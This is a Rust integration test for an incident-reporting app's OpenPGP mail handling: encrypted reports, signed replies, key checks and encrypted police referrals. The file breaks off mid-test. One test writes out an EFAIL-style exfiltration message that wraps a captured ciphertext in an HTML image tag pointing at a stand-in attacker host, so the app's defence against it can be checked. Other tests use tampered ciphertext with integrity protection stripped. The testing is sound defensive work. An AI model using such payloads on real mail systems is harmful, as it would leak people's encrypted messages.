//! Encrypted and signed mail on both databases, with GnuPG as the other side and a real mail server between.

// Helpers of tests stop a test by panicking, as tests do.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    clippy::indexing_slicing,
    clippy::disallowed_methods
)]

#[path = "support/mail.rs"]
mod mail;

use std::collections::BTreeSet;
use std::sync::Arc;

use cairn_app::account::Principal;
use cairn_app::clock::Clock;
use cairn_app::conversation::{Draft, Handed, OnThread, Taken, Written};
use cairn_app::dkim::DkimConfig;
use cairn_app::notify::Post;
use cairn_app::openpgp::Sealing;
use cairn_app::referral::{MailRefusal, Wish, Work};
use cairn_app::report::{AppError, Received, Whole};
use cairn_app::{App, Config, MailConfig};
use cairn_desk::access::Visible;
use cairn_desk::conversation::{Head, ReplyAddress, Sort};
use cairn_desk::form::{Form, FormFiles};
use cairn_desk::mail::sealed::{Encryption, Seal, Signed};
use cairn_desk::referral::{Channel, State};
use cairn_desk::report::{Answer, Contact, KeyWord, MessageText};
use cairn_kernel::actor::{Actor, Role};
use cairn_kernel::time::Micros;
use cairn_testkit::gpg::Gpg;
use cairn_testkit::{TestStore, account, on_both, sample};
use mail::{MailServer, free_address};
use tokio::sync::watch;

const ANA: &str = "ana@home.example";

fn now() -> Micros {
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    Micros(i64::try_from(since.unwrap().as_micros()).unwrap())
}

struct World {
    app: App,
    clock: Clock,
    post: Post,
    officer: Principal,
    /// Where a DKIM key lies.
    _dir: tempfile::TempDir,
}

impl World {
    async fn new(store: &TestStore, address: &str) -> Self {
        Self::with_police(store, address, "").await
    }

    /// With more lines in the data of the police.
    async fn with_police(store: &TestStore, address: &str, more: &str) -> Self {
        let mut files = FormFiles::embedded();
        let police = "code = \"police\"\n";
        files.agencies = files
            .agencies
            .replace(police, &format!("{police}{more}\n"))
            .into();
        let form = Form::parse(&files).unwrap();
        let clock = Clock::fixed(now());
        let dir = tempfile::tempdir().unwrap();
        let key = dir.path().join("dkim.pem");
        let made = std::process::Command::new("openssl")
            .args(["genpkey", "-algorithm", "ed25519", "-out"])
            .arg(&key)
            .output()
            .unwrap();
        assert!(made.status.success());
        let dkim = DkimConfig {
            key,
            selector: "s".into(),
            domain: "cert.example".into(),
        };
        let mail = MailConfig {
            smtp_url: format!("smtp://{address}"),
            from: "Reports <report@cert.example>".into(),
        };
        let post = Post::new(&mail).unwrap().signing(Some(&dkim)).unwrap();
        let config = Config {
            public_url: "https://report.example".into(),
            mail: Some(mail),
            reply_to: Some(ReplyAddress::parse("report+{tag}@cert.example").unwrap()),
            password_cost: cairn_app::account::PasswordCost::CHEAP,
            ..Config::default()
        };
        let app = App::new((**store).clone(), Arc::new(form), config, clock.clone());
        app.ensure_openpgp().unwrap();
        app.ensure_openpgp().unwrap();
        static WORLDS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let login = WORLDS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let officer = account(&app, &format!("officer{login}"), Role::Officer).await;
        Self {
            app,
            clock,
            post,
            officer,
            _dir: dir,
        }
    }

    /// Somebody who has our key.
    fn person(&self, user_id: &str) -> Gpg {
        let gpg = Gpg::with_key(user_id, "1y");
        gpg.import(self.app.openpgp_public().unwrap().armoured().as_bytes());
        gpg
    }

    async fn submit(&self, seed: u64) -> Received {
        let mut draft = sample::draft(seed);
        draft.body.anonymous = false;
        draft.body.files.clear();
        draft.body.language = "en".into();
        draft.contact = Some(Contact {
            email: Some(ANA.into()),
            ..Contact::default()
        });
        self.app
            .submit(&draft, Actor::Reporter, None)
            .await
            .unwrap()
    }

    async fn run(&self) -> usize {
        self.clock.set(self.clock.now().plus_seconds(60));
        let going_on = watch::channel(false).1;
        self.app
            .run_jobs(Some(&self.post), &going_on)
            .await
            .unwrap()
    }

    async fn take(&self, message: &[u8]) -> Taken {
        self.app
            .take_mail(message, Handed::default())
            .await
            .unwrap()
    }

    async fn report(&self, message: &[u8]) -> Received {
        match self.take(message).await {
            Taken::Report(report) => *report,
            other => panic!("no report of its own: {other:?}"),
        }
    }

    async fn on_thread(&self, message: &[u8]) -> OnThread {
        match self.take(message).await {
            Taken::Thread(thread) => thread,
            other => panic!("not on a thread: {other:?}"),
        }
    }

    async fn whole(&self, reference: &str) -> Visible<Whole> {
        self.app
            .read_report(&self.officer, reference)
            .await
            .unwrap()
    }

    async fn reply(&self, reference: &str, draft: Draft) -> Result<Written, AppError> {
        let version = self.whole(reference).await.standing.version;
        self.app
            .reply(&self.officer, reference, version, draft)
            .await
    }

    async fn referred(&self, anonymous: bool) -> (String, u32) {
        let mut draft = sample::draft(3);
        draft.body.anonymous = anonymous;
        draft.body.files.clear();
        draft.contact = None;
        draft.consents = vec!["police".into()];
        let received = self
            .app
            .submit(&draft, Actor::Reporter, None)
            .await
            .unwrap();
        let wish = Wish {
            agency: "police".into(),
            law: None,
            channel: Channel::Mail,
            contact: false,
            files: Vec::new(),
        };
        let version = self.whole(&received.reference).await.standing.version;
        let no = self
            .app
            .prepare_referral(&self.officer, &received.reference, version, wish)
            .await
            .unwrap();
        (received.reference, no)
    }

    async fn send_referral(&self, reference: &str, no: u32) -> Result<(), AppError> {
        let version = self.whole(reference).await.standing.version;
        self.app
            .work_referral(&self.officer, (reference, no), version, Work::Send)
            .await
    }

    fn tagged(&self, server: &MailServer) -> String {
        let all = server.messages();
        let tagged = all
            .iter()
            .find(|one| one.contains("Reply-To: report+"))
            .unwrap();
        field(tagged, "Reply-To")
    }
}

fn draft(text: &str, sealing: Sealing) -> Draft {
    Draft {
        text: MessageText::parse(text).unwrap(),
        waits: true,
        by_mail: true,
        sealing,
        keep: BTreeSet::new(),
        seen: true,
    }
}

fn field(message: &str, name: &str) -> String {
    let unfolded = message.replace("\r\n ", " ").replace("\n ", " ");
    let start = format!("{}:", name.to_lowercase());
    let line = unfolded
        .lines()
        .find(|line| line.to_lowercase().starts_with(&start));
    let line = line.unwrap_or_else(|| panic!("no {name} in {message}"));
    line[start.len()..].trim().to_owned()
}

/// `multipart/encrypted` as mail programs write it.
fn encrypted(fields: &str, sealed: &[u8]) -> Vec<u8> {
    let sealed = String::from_utf8_lossy(sealed);
    let text = format!(
        "{fields}\nMIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\n boundary=\"e\"\n\n\
         --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e\nContent-Type: application/octet-stream\n\n{sealed}\n--e--\n"
    );
    text.replace("\r\n", "\n")
        .replace('\n', "\r\n")
        .into_bytes()
}

const TO_US: [&str; 5] = [
    "--armor",
    "--encrypt",
    "--sign",
    "-r",
    "report@cert.example",
];

const INNER: &str = "Content-Type: multipart/mixed; boundary=\"i\"; protected-headers=\"v1\"\r\nSubject: The real subject\r\n\
    From: eve@else.example\r\n\r\n--i\r\nContent-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
    They asked for my code, caf=E9. See http://phish.example/x\r\n--i\r\nContent-Type: image/png; name=\"a.png\"\r\n\
    Content-Disposition: attachment; filename=\"a.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--i--\r\n";

fn seals(whole: &Visible<Whole>) -> Vec<Seal> {
    match whole.mails.last() {
        Some(mail) => serde_json::from_str::<Head>(&mail.head).unwrap().seals,
        None => whole.body.mail.clone().unwrap().seals,
    }
}

async fn findings(t: &TestStore) -> Vec<String> {
    let (_, findings) = t.log_verify().await;
    findings.iter().map(ToString::to_string).collect()
}

/// Runs GnuPG over the encrypted part of a message.
fn read_by(gpg: &Gpg, message: &str) -> (String, String) {
    let start = message
        .find("-----BEGIN PGP MESSAGE")
        .unwrap_or_else(|| panic!("{message}"));
    let said = gpg.run(&["--decrypt"], &message.as_bytes()[start..]);
    (String::from_utf8_lossy(&said.out).into_owned(), said.status)
}

on_both! {
    async fn an_encrypted_report_is_a_report_like_others_and_its_answers_are_encrypted(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let w = World::new(t, &server.address.to_string()).await;
        let ana = w.person("Ana <ana@home.example>");
        let inner = format!("{INNER}\r\n").replace("--i--", &format!(
            "--i\r\nContent-Type: application/pgp-keys\r\n\r\n{}\r\n--i--", String::from_utf8(ana.public()).unwrap()));
        let sealed = ana.out(&TO_US, inner.as_bytes());
        let message = encrypted("From: Ana <ana@home.example>\nTo: report@cert.example\nSubject: ...\nMessage-ID: <1@home.example>", &sealed);
        let received = w.report(&message).await;
        let whole = w.whole(&received.reference).await;
        let Some(Answer::Text(story)) = whole.body.answers.get("story") else { panic!("{:?}", whole.body) };
        assert!(story.contains("caf\u{e9}"), "{story}");
        assert_eq!(whole.summary.title, "The real subject");
        assert_eq!(whole.contact.clone().unwrap().email.as_deref(), Some(ANA), "what is within says nothing of who wrote");
        assert!(whole.files.iter().any(|file| file.name.as_deref() == Some("a.png")));
        assert!(whole.body.observables.iter().any(|seen| seen.value.contains("phish.example")));
        let kept = &whole.files.iter().find(|file| file.name.as_deref() == Some("message.eml")).unwrap().sha256;
        assert_eq!(t.read_blob(kept).await.unwrap(), message, "as it came");
        let fingerprint = ana.fingerprint();
        let seal = Seal { encryption: Encryption::ToUs, signed: Signed::Good, key: Some(fingerprint.clone()), other_sender: false, mark: None };
        assert_eq!(seals(&whole), [seal]);
        assert!(w.report(&message).await.again, "twice is once");
        let keys = w.app.reporter_keys(&whole);
        assert_eq!(keys.len(), 1);
        assert!(keys[0].in_use && !keys[0].is_confirmed() && keys[0].fingerprint() == Some(fingerprint.clone()));
        assert_eq!(w.app.sealing_first(&whole), Sealing::Encrypted);
        // The receipt with the secret link is encrypted, too.
        assert_eq!(w.run().await, 1);
        let receipt = server.messages().remove(0);
        // More than "/s/", which encrypted text has by chance now and then.
        assert!(!receipt.replace("=\r\n", "").contains("report.example/s/") && field(&receipt, "Subject") == "...", "{receipt}");
        let (read, status) = read_by(&ana, &receipt);
        let link = read.replace("=\r\n", "");
        assert!(link.contains("report.example/s/") && (link.contains("protected-headers=3D\"v1\"") || link.contains("protected-headers=\"v1\"")), "{link}");
        let own = w.app.openpgp_public().unwrap().fingerprint();
        assert!(status.contains(&format!("VALIDSIG {own}")), "{status}");
        // An officer answers: what is shown is what goes, but not outside.
        let preview = w.app.preview_reply(&w.officer, &received.reference, &draft("Kia ora, ā.", Sealing::Encrypted)).await.unwrap();
        let shown = preview.mail.clone().unwrap();
        assert_eq!((shown.sealing, shown.key.clone(), shown.exposes), (Sealing::Encrypted, Some((fingerprint, false)), false));
        w.reply(&received.reference, draft("Kia ora, ā.", Sealing::Encrypted)).await.unwrap();
        assert_eq!(w.run().await, 1);
        let all = server.messages();
        let answer = all.iter().find(|one| !one.contains("Auto-Submitted")).unwrap();
        assert!(answer.contains("DKIM-Signature:") && !answer.contains("Kia ora"), "{answer}");
        let (read, status) = read_by(&ana, answer);
        assert!(read.contains("Kia ora, =C4=81.") && read.contains("Subject: ") && status.contains("GOODSIG"), "{read}");
        let whole = w.whole(&received.reference).await;
        assert!(whole.sent.iter().all(|sent| sent.seal.as_deref() == Some("encrypted")), "{:?}", whole.sent);
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn a_plain_answer_to_who_wrote_encrypted_is_looked_at_first(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let w = World::new(t, &server.address.to_string()).await;
        let ana = w.person("Ana <ana@home.example>");
        let sealed = ana.out(&TO_US, INNER.as_bytes());
        let received = w.report(&encrypted("From: ana@home.example\nSubject: ...", &sealed)).await;
        let whole = w.whole(&received.reference).await;
        assert_eq!(seals(&whole)[0].signed, Signed::Unknown, "nobody told us the key");
        assert_eq!(w.app.sealings(&whole), [Sealing::Signed, Sealing::Plain]);
        let careless = Draft { seen: false, ..draft("You wrote: my code", Sealing::Plain) };
        assert_eq!(w.reply(&received.reference, careless).await.unwrap(), Written::LookFirst);
        assert!(matches!(w.reply(&received.reference, draft("x", Sealing::Encrypted)).await, Err(AppError::Input(_))));
        // Signed only: anybody's GnuPG can check it.
        w.reply(&received.reference, draft("Please send your key.\n\n-- \nOfficer ", Sealing::Signed)).await.unwrap();
        assert_eq!(w.run().await, 2);
        let all = server.messages();
        let signed = all.iter().find(|one| one.contains("multipart/signed")).unwrap().replace("\r\n", "\n");
        let boundary = signed.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
        let parts: Vec<&str> = signed.split(&format!("--{boundary}\n")).collect();
        let part = parts[1].strip_suffix('\n').unwrap().replace('\n', "\r\n");
        let signature = &parts[2][parts[2].find("-----BEGIN").unwrap()..];
        let (sig, data) = (ana.home().join("s"), ana.home().join("d"));
        std::fs::write(&sig, signature).unwrap();
        std::fs::write(&data, part).unwrap();
        let checked = ana.run(&["--verify", sig.to_str().unwrap(), data.to_str().unwrap()], b"");
        assert!(checked.status.contains("GOODSIG"), "{}", checked.status);
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn signed_mail_is_checked_and_a_wrong_sender_is_said(t: &mut TestStore) {
        let w = World::new(t, &free_address().to_string()).await;
        let ana = w.person("Ana <ana@home.example>");
        let part = "Content-Type: text/plain; charset=utf-8\r\n\r\nI pressed the link. \r\n";
        let key = "Content-Type: application/pgp-keys\r\n\r\n";
        let part = format!("Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n{part}\r\n--m\r\n{key}{}\r\n--m--\r\n",
            String::from_utf8(ana.public()).unwrap().replace("\r\n", "\n").replace('\n', "\r\n"));
        let signature = String::from_utf8(ana.out(&["--armor", "--detach-sign"], part.as_bytes())).unwrap();
        let mail = |from: &str, part: &str| format!(
            "From: {from}\r\nSubject: Signed\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n\
             --s\r\n{part}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--s--\r\n");
        let good = w.report(mail(ANA, &part).as_bytes()).await;
        let whole = w.whole(&good.reference).await;
        let seal = &seals(&whole)[0];
        assert_eq!((seal.encryption, seal.signed, seal.other_sender), (Encryption::None, Signed::Good, false));
        assert_eq!(whole.files.len(), 2, "the message and the key; the signature is no file of the report");
        // What a pipe made of the line ends changes nothing.
        let unix = w.report(mail(ANA, &part).replace("\r\n", "\n").as_bytes()).await;
        assert_eq!(seals(&w.whole(&unix.reference).await)[0].signed, Signed::Good);
        let eve = w.report(mail("eve@else.example", &part).as_bytes()).await;
        let whole = w.whole(&eve.reference).await;
        assert!(seals(&whole)[0].other_sender);
        assert_eq!(w.app.reporter_keys(&whole).len(), 0, "a key of somebody else is not the reporter's");
        let bad = w.report(mail(ANA, &part.replace("pressed", "did not press")).as_bytes()).await;
        assert_eq!(seals(&w.whole(&bad.reference).await)[0].signed, Signed::Bad);
        // Encrypted with a signature of its own within (RFC 3156, 6.1).
        let inner = mail("x", &part).split_once("Subject: Signed\r\n").unwrap().1.to_owned();
        let sealed = ana.out(&["--armor", "--encrypt", "-r", "report@cert.example"], inner.as_bytes());
        let both = w.report(&encrypted("From: ana@home.example", &sealed)).await;
        let all = seals(&w.whole(&both.reference).await);
        assert_eq!(all.len(), 1);
        assert_eq!((all[0].encryption, all[0].signed), (Encryption::ToUs, Signed::Good));
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn inline_blocks_and_files_are_opened_and_told_apart_from_what_stands_beside(t: &mut TestStore) {
        let w = World::new(t, &free_address().to_string()).await;
        let ana = w.person("Ana <ana@home.example>");
        let plain = "Mō tō pūrongo: hidden words.\n";
        let block = String::from_utf8(ana.out(&TO_US, plain.as_bytes())).unwrap();
        let file = ana.out(&["--encrypt", "-r", "report@cert.example"], b"a,b\n1,2\n");
        let story = |whole: &Whole| match whole.body.answers.get("story") {
            Some(Answer::Text(story)) => story.clone(),
            other => panic!("{other:?}"),
        };
        let alone = w.report(format!("From: {ANA}\nSubject: Inline\n\n{block}").as_bytes()).await;
        let whole = w.whole(&alone.reference).await;
        assert_eq!(story(&whole), plain.trim());
        assert_eq!((seals(&whole)[0].encryption, &seals(&whole)[0].mark), (Encryption::ToUs, &None));
        // EFAIL: whoever has somebody's encrypted words puts them into a message of their own.
        let mixed = w.report(format!("From: eve@else.example\nContent-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n\
            <img src=\"http://eve.example/?\n--m\n\n{block}\n--m\nContent-Type: text/html\n\n\">\n--m--\n").as_bytes()).await;
        let whole = w.whole(&mixed.reference).await;
        let mark = seals(&whole)[0].mark.clone().expect("a mark between them");
        let text = story(&whole);
        let within = text.split(&format!("===== OpenPGP {mark} =====")).nth(1).unwrap();
        let within = within.split(&format!("===== OpenPGP {mark} / =====")).next().unwrap();
        assert_eq!(within.trim(), plain.trim());
        // A text around it, and an encrypted file.
        let base64 = ana.out(&["--enarmor"], &file);
        let b64: String = String::from_utf8_lossy(&base64).lines().skip_while(|line| !line.is_empty()).skip(1)
            .take_while(|line| !line.starts_with('=')).map(|line| format!("{line}\n")).collect();
        let around = w.report(format!("From: {ANA}\nContent-Type: multipart/mixed; boundary=m\n\n--m\n\nBefore\n\n{block}\nAfter\n--m\n\
            Content-Type: application/octet-stream; name=\"table.csv.pgp\"\nContent-Transfer-Encoding: base64\n\n{b64}\n--m--\n").as_bytes()).await;
        let whole = w.whole(&around.reference).await;
        let text = story(&whole);
        assert!(text.starts_with("Before") && text.trim_end().ends_with("After"), "{text}");
        assert_eq!(seals(&whole).len(), 2);
        let table = whole.files.iter().find(|file| file.name.as_deref() == Some("table.csv")).unwrap();
        assert_eq!(t.read_blob(&table.sha256).await.unwrap(), b"a,b\n1,2\n");
        // A readable block with a signature under it.
        let clear = String::from_utf8(ana.out(&["--clear-sign"], b"- Signed words\n")).unwrap();
        let clear = w.report(format!("From: {ANA}\n\n{clear}").as_bytes()).await;
        let whole = w.whole(&clear.reference).await;
        assert_eq!((story(&whole).as_str(), seals(&whole)[0].signed), ("- Signed words", Signed::Unknown));
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn what_cannot_be_opened_is_kept_whole_and_its_sender_told_once(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let w = World::new(t, &server.address.to_string()).await;
        let received = w.submit(1).await;
        assert_eq!(w.run().await, 1);
        let to = w.tagged(&server);
        let ana = w.person("Ana <ana@home.example>");
        let for_her = ana.out(&["--armor", "--encrypt", "-r", "ana@home.example"], INNER.as_bytes());
        let fields = |n: u8, more: &str| format!("From: {ANA}\nTo: {to}\nSubject: Secret\nMessage-ID: <{n}@home.example>{more}");
        let message = encrypted(&fields(1, ""), &for_her);
        assert_eq!(w.on_thread(&message).await.sort, Sort::Reporter);
        let whole = w.whole(&received.reference).await;
        assert_eq!(seals(&whole)[0].encryption, Encryption::ToOthers);
        let kept = whole.mails[0].sha256.clone().unwrap();
        assert_eq!(t.read_blob(&kept).await.unwrap(), message);
        assert_eq!(w.on_thread(&encrypted(&fields(2, "\nAuto-Submitted: auto-replied"), &for_her)).await.sort, Sort::Automatic);
        w.on_thread(&encrypted(&fields(3, ""), &for_her)).await;
        w.run().await;
        let told: Vec<String> = server.messages().into_iter().filter(|one| one.contains("could not read")).collect();
        assert_eq!(told.len(), 1, "once on a thread");
        let own = w.app.openpgp_public().unwrap().fingerprint();
        let shown = cairn_app::openpgp::fingerprint_shown(&own);
        assert!(told[0].contains(&shown) && told[0].contains("https://report.example/openpgp"), "{}", told[0]);
        assert!(told[0].contains("auto-replied"));
        // Changed on its way, and without protection against that.
        let ours = ana.out(&["--encrypt", "-r", "report@cert.example"], INNER.as_bytes());
        let mut changed = ours.clone();
        *changed.last_mut().unwrap() ^= 1;
        let mut stripped = ours;
        let at = 2 + usize::from(stripped[1]);
        assert_eq!(stripped[at], 0xd2);
        stripped[at] = 0xc9;
        for (n, bytes, expected) in [(4, changed, Encryption::Damaged), (5, stripped, Encryption::Unsafe)] {
            let armoured = ana.out(&["--enarmor"], &bytes);
            let armoured = String::from_utf8(armoured).unwrap().replace("ARMORED FILE", "MESSAGE");
            w.on_thread(&encrypted(&fields(n, ""), armoured.as_bytes())).await;
            let whole = w.whole(&received.reference).await;
            assert_eq!(seals(&whole)[0].encryption, expected);
            assert!(!whole.messages.last().unwrap().text.contains("code"));
        }
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn a_changed_key_replaces_no_confirmed_one_and_keys_go_with_the_contact(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let w = World::new(t, &server.address.to_string()).await;
        let received = w.submit(1).await;
        w.run().await;
        let to = w.tagged(&server);
        let (ana, other) = (w.person("Ana <ana@home.example>"), w.person("Ana <ana@home.example>"));
        let autocrypt = |gpg: &Gpg| {
            let bytes = gpg.out(&["--export"], b"");
            let armoured = String::from_utf8(gpg.out(&["--enarmor"], &bytes)).unwrap();
            let lines = armoured.lines().skip_while(|line| !line.is_empty()).skip(1);
            let data: Vec<String> = lines.take_while(|line| !line.starts_with('=')).map(|line| format!(" {line}")).collect();
            format!("Autocrypt: addr={ANA}; prefer-encrypt=mutual; keydata=\n{}", data.join("\n"))
        };
        let mail = |n: u8, gpg: &Gpg| format!("From: {ANA}\nTo: {to}\nMessage-ID: <{n}@home.example>\n{}\n\nHello {n}\n", autocrypt(gpg)).replace('\n', "\r\n");
        w.on_thread(mail(1, &ana).as_bytes()).await;
        w.on_thread(mail(2, &ana).as_bytes()).await;
        let whole = w.whole(&received.reference).await;
        assert_eq!(w.app.reporter_keys(&whole).len(), 1, "the same key is one");
        let who = &w.officer;
        w.app.judge_key(who, &received.reference, whole.standing.version, (1, KeyWord::Confirmed)).await.unwrap();
        w.on_thread(mail(3, &other).as_bytes()).await;
        let whole = w.whole(&received.reference).await;
        assert!(whole.standing.keys.changed());
        assert_eq!(w.app.reporter_key(&whole).unwrap().fingerprint(), Some(ana.fingerprint()));
        w.reply(&received.reference, draft("Which one?", Sealing::Encrypted)).await.unwrap();
        w.run().await;
        let all = server.messages();
        let answer = all.iter().find(|one| one.contains("BEGIN PGP MESSAGE")).unwrap();
        assert!(read_by(&ana, answer).1.contains("GOODSIG"));
        assert!(read_by(&other, answer).1.contains("NO_SECKEY"));
        assert_eq!(findings(t).await, Vec::<String>::new());
        // Keys that can't be used are refused with the reason.
        let old = Gpg::with_key("Ana <ana@home.example>", "seconds=1");
        std::thread::sleep(std::time::Duration::from_millis(1500));
        for (text, why) in [(old.public(), "time is over"), (b"hello".to_vec(), "no OpenPGP"), (ana.out(&["--armor", "--export-secret-keys"], b""), "secret")] {
            let version = w.whole(&received.reference).await.standing.version;
            let text = String::from_utf8(text).unwrap();
            let refused = w.app.paste_key(who, &received.reference, version, &text).await;
            assert!(matches!(&refused, Err(AppError::Input(said)) if said.contains(why)), "{refused:?}");
        }
        // They name their owner.
        let secret = received.secret.expose();
        w.app.erase_contact(&received.reference, secret).await.unwrap();
        let whole = w.whole(&received.reference).await;
        assert!(whole.keys.iter().all(|key| key.record.is_empty()));
        assert_eq!(w.app.sealings(&whole), [Sealing::Plain]);
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn an_older_key_of_ours_still_reads_what_was_written_to_it(t: &mut TestStore) {
        let w = World::new(t, &free_address().to_string()).await;
        let ana = w.person("Ana <ana@home.example>");
        let before = w.app.openpgp_public().unwrap();
        let sealed = ana.out(&TO_US, INNER.as_bytes());
        let after = w.app.openpgp_rotate().unwrap();
        assert_ne!(before.fingerprint(), after.fingerprint());
        assert_eq!(w.app.openpgp_public().unwrap(), after);
        let received = w.report(&encrypted(&format!("From: {ANA}"), &sealed)).await;
        assert_eq!(seals(&w.whole(&received.reference).await)[0].encryption, Encryption::ToUs);
    }

    async fn a_referral_goes_by_mail_encrypted_and_the_agency_answers_on_its_thread(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let police = Gpg::with_key("Police <intake@police.example>", "1y");
        let key = String::from_utf8(police.public()).unwrap();
        let more = format!("mail = \"intake@police.example\"\nopenpgp = \"\"\"\n{key}\"\"\"");
        let w = World::with_police(t, &server.address.to_string(), &more).await;
        police.import(w.app.openpgp_public().unwrap().armoured().as_bytes());
        for anonymous in [false, true] {
            let before = server.messages().len();
            let (reference, no) = w.referred(anonymous).await;
            w.send_referral(&reference, no).await.unwrap();
            // Until its time it can be taken back.
            let going_on = watch::channel(false).1;
            assert_eq!(w.app.run_jobs(Some(&w.post), &going_on).await.unwrap(), 0);
            assert_eq!(w.run().await, 1);
            let mut all = server.messages();
            assert_eq!(all.len(), before + 1);
            let at = all.iter().position(|one| one.contains("intake@police.example") && one.contains("BEGIN PGP") && field(one, "Reply-To").contains(&reference.replace('-', "").to_lowercase()));
            let mail = all.remove(at.unwrap());
            assert!(field(&mail, "Subject") == "..." && mail.contains("DKIM-Signature") && !mail.contains(&reference), "{mail}");
            let (read, status) = read_by(&police, &mail);
            assert!(status.contains("GOODSIG") && read.contains(&format!("referral {reference}/{no}")), "{read}");
            let zipped: String = read.split("application/zip").nth(1).unwrap().split("\r\n\r\n").nth(1).unwrap().split("--").next().unwrap().split_whitespace().collect();
            assert!(zipped.starts_with("UEsDB"), "a zip file");
            let whole = w.whole(&reference).await;
            let referral = &whole.standing.referrals[0];
            assert!(read.contains(referral.sent.as_ref().unwrap()), "the manifest that the log has");
            assert_eq!(referral.taken, referral.sent);
            let (_, sent) = whole.referral_mails(no);
            assert_eq!(sent[0].seal.as_deref(), Some("encrypted"));
            // The agency answers: no words of the reporter.
            let to = field(&mail, "Reply-To");
            let text = b"Content-Type: text/plain\r\n\r\nWe have it as P-1.\r\n";
            let answer = police.out(&TO_US, text);
            let answer = encrypted(&format!("From: intake@police.example\nTo: {to}\nMessage-ID: <{anonymous}@police.example>"), &answer);
            assert_eq!(w.on_thread(&answer).await.sort, Sort::Other);
            let whole = w.whole(&reference).await;
            let (came, _) = whole.referral_mails(no);
            assert_eq!(came[0].text, "We have it as P-1.");
            let head: Head = serde_json::from_str(&came[0].head).unwrap();
            assert_eq!((head.referral, head.seals[0].signed), (Some(no), Signed::Good));
            assert!(whole.messages.is_empty());
            if anonymous {
                let by_machine = whole.history.iter().filter(|line| line.event.by == Actor::System);
                for line in by_machine {
                    assert_eq!(line.event.at.0 % 3_600_000_000, 0, "{:?}", line.event);
                }
                assert_eq!(whole.mails[0].at.0 % 3_600_000_000, 0);
            }
            // It did not arrive after all.
            let id = field(&mail, "Message-ID");
            let bounce = format!("Return-Path: <>\r\nFrom: MAILER-DAEMON@mx.example\r\nTo: {to}\r\nSubject: Undelivered\r\n\
                Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\n\r\nSorry {anonymous}.\r\n--b\r\n\
                Content-Type: message/delivery-status\r\n\r\nFinal-Recipient: rfc822; intake@police.example\r\nAction: failed\r\n\
                Status: 5.1.1\r\n\r\n--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: {id}\r\n--b--\r\n");
            assert_eq!(w.on_thread(bounce.as_bytes()).await.sort, Sort::Bounce);
            let whole = w.whole(&reference).await;
            let referral = &whole.standing.referrals[0];
            assert_eq!((referral.state, referral.bounced), (State::Prepared, true));
            assert!(whole.referral_mails(no).1[0].bounced_at.is_some());
            assert!(w.app.passed_on(&whole).is_empty());
            w.send_referral(&reference, no).await.unwrap();
            assert_eq!(w.run().await, 1, "sent again");
        }
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn an_agency_that_owes_an_answer_gets_the_reminder_that_was_shown(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let police = Gpg::with_key("Police <intake@police.example>", "1y");
        let key = String::from_utf8(police.public()).unwrap();
        let more = format!("mail = \"intake@police.example\"\nopenpgp = \"\"\"\n{key}\"\"\"");
        let w = World::with_police(t, &server.address.to_string(), &more).await;
        police.import(w.app.openpgp_public().unwrap().armoured().as_bytes());
        let (reference, no) = w.referred(true).await;
        let place = (reference.as_str(), no);
        let early = w.whole(&reference).await.standing.version;
        let early = w.app.work_referral(&w.officer, place, early, Work::Remind).await;
        assert!(matches!(early, Err(AppError::Refused(_))), "{early:?}");
        w.send_referral(&reference, no).await.unwrap();
        assert_eq!(w.run().await, 1);
        let before = server.messages();
        let shown = w.app.referral(&w.officer, &reference, no).await.unwrap();
        let prepared = w.app.reminder(&shown.whole, &shown.record).await.unwrap().unwrap();
        assert!(prepared.text.contains(&reference) && prepared.text.contains("expected to hear from you by"), "{}", prepared.text);
        let version = shown.whole.standing.version;
        w.app.work_referral(&w.officer, place, version, Work::Remind).await.unwrap();
        let twice = w.app.work_referral(&w.officer, place, version, Work::Remind).await;
        assert!(matches!(twice, Err(AppError::Conflict)), "{twice:?}");
        assert_eq!((w.run().await, w.run().await), (1, 0));
        let mut all = server.messages();
        all.retain(|one| !before.contains(one));
        let mail = all.pop().unwrap();
        assert!(all.is_empty() && field(&mail, "Subject") == "..." && !mail.contains(&reference), "{mail}");
        let (read, status) = read_by(&police, &mail);
        assert!(status.contains("GOODSIG") && read.contains("reminder") && read.contains("Please answer this mail"), "{read}");
        let whole = w.whole(&reference).await;
        assert_eq!(whole.standing.referrals[0].chases, 1);
        let kept = whole.referral_text(version + 1).unwrap();
        assert_eq!(kept.trim(), prepared.text.trim(), "the log's digest is of what went");
        let (_, sent) = whole.referral_mails(no);
        let seals: Vec<_> = sent.iter().map(|one| one.seal.as_deref()).collect();
        assert_eq!(seals, [Some("encrypted"), Some("encrypted")]);
        // Where it does not arrive, what was handed over is not undone.
        let (to, id) = (field(&mail, "Reply-To"), field(&mail, "Message-ID"));
